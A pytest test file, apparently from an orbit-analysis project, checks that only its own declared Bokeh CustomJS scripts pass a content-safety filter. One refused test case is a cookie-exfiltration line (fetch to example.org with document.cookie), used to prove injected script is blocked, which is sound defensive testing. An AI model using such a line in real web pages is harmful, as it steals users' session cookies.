"""The scripts our figures declare (orbitledger.figures.own_scripts) are the only CustomJS a
record lets through: the inertial view's sliders pass, any other CustomJS is still refused.

Outside reference: Bokeh's own serialisation (``bokeh.embed.json_item``) of its ``CustomJS``
model is what the check reads; refusing script a page did not write is common practice for a
page with a strict Content-Security-Policy (CSP Level 3, "script-src").
"""

from __future__ import annotations

import ast
import json
import math
from pathlib import Path

import numpy as np
import pytest
from bokeh.embed import json_item
from bokeh.models import CustomJS, Slider
from bokeh.plotting import figure
from orbitledger.reporting.safe_bokeh import UnsafeFigure, problems, safe_item

from orbitledger.figures import inertial_figure, own_scripts
from orbitledger.figures.inertial import PROJECT_JS
from orbitledger.kernel import EARTH, Elements, elements_to_state, propagate_two_body
from orbitledger.kernel.errors import InputError

FIGURES = Path(__file__).resolve().parent.parent / "orbitledger" / "figures"


def _with_callback(code: str) -> dict:
    fig = figure(width=200, height=200)
    fig.line([0, 1], [0, 1])
    slider = Slider(start=0, end=1, value=0, step=0.1, title="s")
    slider.js_on_change("value", CustomJS(args={}, code=code))
    from bokeh.layouts import column

    return json_item(column(fig, slider))


def _inertial_item() -> dict:
    el = Elements(a_km=7000.0, e=0.01, i_deg=97.5, raan_deg=30.0, argp_deg=0.0, nu_deg=0.0)
    r0, v0 = elements_to_state(el)
    period = 2 * math.pi * math.sqrt(el.a_km**3 / EARTH.mu_km3_s2)
    r, v = propagate_two_body(r0, v0, np.linspace(0.0, period, 60))
    return json_item(inertial_figure([(r, v)], labels=["Kestrel-2 A"]))


def test_the_inertial_view_declares_its_script_and_passes():
    assert PROJECT_JS in own_scripts.declared_scripts().values()
    item = _inertial_item()
    assert '"name": "CustomJS"' in json.dumps(item)  # the sliders carry it
    assert problems(item) == []
    assert safe_item(item, "inertial view") == item


@pytest.mark.parametrize(
    "code",
    [
        "alert(1)",
        PROJECT_JS + "\nfetch('https://example.org/?' + document.cookie);",  # not exact
        PROJECT_JS.strip(),  # exact match only: even white space differs
    ],
)
def test_an_undeclared_custom_js_is_still_refused(code):
    item = _with_callback(code)
    with pytest.raises(UnsafeFigure, match="CustomJS"):
        safe_item(item, "study figure")
    assert any("CustomJS" in p for p in problems(item))


def test_a_declared_script_is_allowed_and_a_name_keeps_its_code(monkeypatch):
    monkeypatch.setattr(own_scripts, "_SCRIPTS", dict(own_scripts._SCRIPTS))
    code = "src.change.emit();"
    item = _with_callback(code)
    with pytest.raises(UnsafeFigure):
        safe_item(item, "before")
    assert own_scripts.declare_script("test: emit", code) == code
    assert safe_item(item, "after") == item
    own_scripts.declare_script("test: emit", code)  # the same again is fine
    with pytest.raises(InputError, match="declared already"):
        own_scripts.declare_script("test: emit", code + " ")
    with pytest.raises(InputError, match="JavaScript"):
        own_scripts.declare_script("test: empty", "  ")


def test_every_module_that_declares_a_script_is_listed():
    declaring = set()
    for path in sorted(FIGURES.glob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        calls = [
            n
            for n in ast.walk(tree)
            if isinstance(n, ast.Call) and getattr(n.func, "id", None) == "declare_script"
        ]
        if calls and path.stem != "own_scripts":
            declaring.add(f"orbitledger.figures.{path.stem}")
    assert declaring == set(own_scripts.DECLARING_MODULES)
